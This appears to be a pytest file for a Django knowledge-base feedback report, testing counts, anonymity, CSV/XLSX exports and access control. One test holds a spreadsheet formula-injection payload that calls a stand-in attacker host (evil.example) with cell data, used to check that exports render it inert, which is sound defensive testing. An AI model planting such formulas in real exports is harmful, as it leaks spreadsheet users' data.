"""The editors' report of what readers answered to "Was dit nuttig?"."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.admin_access import assert_sent_to_admin_login
from tests.factories.knowledge_base import ArticleFeedbackFactory
from tests.factories.people import UserFactory

pytestmark = pytest.mark.django_db

REPORT_URL = "/admin/kennisbank/feedback/"


@pytest.fixture
def feedback(make_article):
    article = make_article(title="Het goede gesprek")
    voters = [UserFactory(first_name="Anne", last_name="Jansen")] + [UserFactory() for _ in range(3)]
    ArticleFeedbackFactory(article=article, user=voters[0], useful=True, comment="Heel bruikbaar")
    ArticleFeedbackFactory(article=article, user=voters[1], useful=True)
    ArticleFeedbackFactory(article=article, user=voters[2], useful=True)
    ArticleFeedbackFactory(article=article, user=voters[3], useful=False, comment="Voorbeeld ontbreekt")
    make_article(title="Zonder reacties")
    return article


def test_report_shows_counts_share_and_comments_without_names(editor_client, feedback):
    response = editor_client.get(REPORT_URL)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Het goede gesprek" in html
    assert "Zonder reacties" not in html
    row = response.context["object_list"][0]
    assert (row.useful_count, row.not_useful_count, row.useful_percentage) == (3, 1, "75%")
    assert "Heel bruikbaar" in html and "Voorbeeld ontbreekt" in html
    assert "Anne" not in html and "Jansen" not in html


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_report_exports_csv(editor_client, feedback):
    response = editor_client.get(REPORT_URL, {"export": "csv"})
    rows = read_csv(response)
    assert rows[0] == ["Artikel", "Nuttig", "Niet nuttig", "Aandeel nuttig", "Opmerkingen"]
    assert rows[1][:4] == ["Het goede gesprek", "3", "1", "75%"]
    assert "Heel bruikbaar" in rows[1][4] and "Voorbeeld ontbreekt" in rows[1][4]


def test_report_exports_formula_like_titles_and_comments_as_inert_text(editor_client, make_article):
    attack = '=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")'
    article = make_article(title="@SUM(1+1) werkt niet")
    ArticleFeedbackFactory(article=article, user=UserFactory(), useful=False, comment=attack)

    xlsx = editor_client.get(REPORT_URL, {"export": "xlsx"})
    assert xlsx.status_code == 200
    title, useful, _not_useful, _share, comments = next(
        load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(min_row=2)
    )
    assert (title.value, title.data_type, title.quotePrefix) == ("@SUM(1+1) werkt niet", "s", True)
    assert (useful.value, useful.data_type) == (0, "n")
    assert attack in comments.value and comments.data_type == "s"

    rows = read_csv(editor_client.get(REPORT_URL, {"export": "csv"}))
    assert rows[1][0] == "'@SUM(1+1) werkt niet"
    assert not rows[1][4].startswith(("=", "+", "-", "@"))


def test_employee_cannot_open_the_feedback_report(employee_client, feedback):
    response = employee_client.get(REPORT_URL)
    assert_sent_to_admin_login(response, REPORT_URL)
    assert "Heel bruikbaar" not in response.content.decode()
